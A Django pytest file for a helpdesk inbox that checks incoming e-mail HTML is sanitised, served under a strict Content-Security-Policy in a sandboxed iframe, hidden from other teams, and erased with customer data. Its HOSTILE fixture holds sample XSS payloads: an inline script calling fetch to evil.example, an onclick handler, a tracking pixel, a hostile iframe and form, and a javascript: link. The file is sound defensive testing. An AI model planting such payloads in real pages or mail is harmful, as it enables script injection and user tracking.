"""An e-mail's HTML: kept sanitised beside the text/plain rendering and served only into a
sandbox, with a CSP that loads nothing remote and runs no script, to its team only."""

from __future__ import annotations

import pytest
from django.contrib.auth.models import User
from django.test import Client

from connectors import jobs
from inbox.models import Message, MessageHtml
from inbox.services.data_requests import ERASED, data_erase
from tests.connectors.email_support import mail
from tests.factories import AgentFactory

pytest_plugins = ["tests.connectors.mail_fixtures"]
pytestmark = pytest.mark.django_db(transaction=True)
HOSTILE = (
    "<p onclick='steal()'>Se <b>her</b></p><script>fetch('https://evil.example/x')</script>"
    "<img src='https://tracker.example/pixel.gif?u=anna' width='1' height='1'>"
    "<img src='data:image/png;base64,iVBORw0KGgo=' alt='logo'>"
    "<iframe src='https://evil.example'></iframe><form action='https://evil.example'></form>"
    "<a href='javascript:alert(1)'>klik</a><a href='https://skat.dk'>skat.dk</a>"
)


def client_for(agent) -> Client:
    client = Client()
    client.force_login(User.objects.get(pk=agent.user_id))
    return client


def _html_mail(dovecot, mail_account) -> Message:
    message = mail("Se her (tekst)")
    message.add_alternative(HOSTILE, subtype="html")
    dovecot.deliver(message)
    jobs.poll_account(mail_account.pk)
    return Message.objects.get()


def test_the_text_stays_the_plain_part_and_the_html_is_kept_sanitised(dovecot, mail_account):
    message = _html_mail(dovecot, mail_account)

    assert message.text == "Se her (tekst)"
    html = MessageHtml.objects.get(message=message).html
    assert "<b>her</b>" in html
    assert 'href="https://skat.dk"' in html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html
    for gone in ("script", "onclick", "tracker.example", "iframe", "<form", "javascript:"):
        assert gone not in html


def test_a_plain_mail_has_no_html_copy(dovecot, mail_account):
    dovecot.deliver(mail())
    jobs.poll_account(mail_account.pk)

    assert not MessageHtml.objects.exists()


def test_the_html_page_loads_nothing_runs_nothing_and_may_only_be_framed_by_svar(
    dovecot, mail_account, agent
):
    message = _html_mail(dovecot, mail_account)

    response = client_for(agent).get(f"/messages/{message.pk}/html")

    assert response.status_code == 200
    policy = response["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "img-src data:;" in policy
    assert "style-src 'unsafe-inline'" in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    assert "frame-ancestors 'self'" in policy
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert response["Referrer-Policy"] == "no-referrer"
    assert b"<b>her</b>" in response.content
    assert b"<script" not in response.content
    assert b"tracker.example" not in response.content


def test_the_thread_frames_the_html_in_a_sandbox_without_scripts(dovecot, mail_account, agent):
    message = _html_mail(dovecot, mail_account)

    page = client_for(agent).get(f"/conversations/{message.conversation_id}/")

    text = page.content.decode()
    assert f'src="/messages/{message.pk}/html"' in text
    frame = text[text.index("<iframe") : text.index("</iframe>")]
    assert "sandbox=" in frame
    assert "allow-scripts" not in frame
    assert "allow-same-origin" not in frame


def test_another_teams_agent_gets_nothing(dovecot, mail_account, other_team):
    message = _html_mail(dovecot, mail_account)
    outsider = AgentFactory(teams=[other_team])

    response = client_for(outsider).get(f"/messages/{message.pk}/html")

    assert response.status_code == 404
    assert b"her" not in response.content


def test_erasing_the_customer_erases_the_html_with_the_text(dovecot, mail_account, manager):
    message = _html_mail(dovecot, mail_account)

    data_erase(user=manager.user, contact_id=message.conversation.contact_id)

    assert not MessageHtml.objects.exists()
    message.refresh_from_db()
    assert message.text == ERASED
